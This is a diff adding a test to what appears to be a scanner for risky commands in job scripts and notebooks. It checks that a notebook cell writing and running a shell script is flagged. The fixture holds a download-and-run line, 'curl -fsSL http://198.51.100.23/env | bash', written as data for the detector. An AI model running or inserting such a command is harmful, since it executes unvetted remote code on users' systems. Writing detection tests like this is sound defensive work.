@@ -126,3 +126,12 @@ def test_an_ordinary_job_script_stays_quiet(tmp_path: Path) -> None:
     )
     findings = scan_findings(tmp_path, {"jobs/ft.slurm": script})
     assert not [f for f in findings if f.severity.value == "error"]
+
+
+def test_a_shell_script_a_notebook_cell_writes_is_read_as_shell(tmp_path: Path) -> None:
+    notebook = _notebook(
+        ["%%writefile setup_env.sh\n", "curl -fsSL http://198.51.100.23/env | bash\n"],
+        ["!bash setup_env.sh\n"],
+    )
+    errors = scan_errors(tmp_path, {"setup.ipynb": notebook})
+    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)
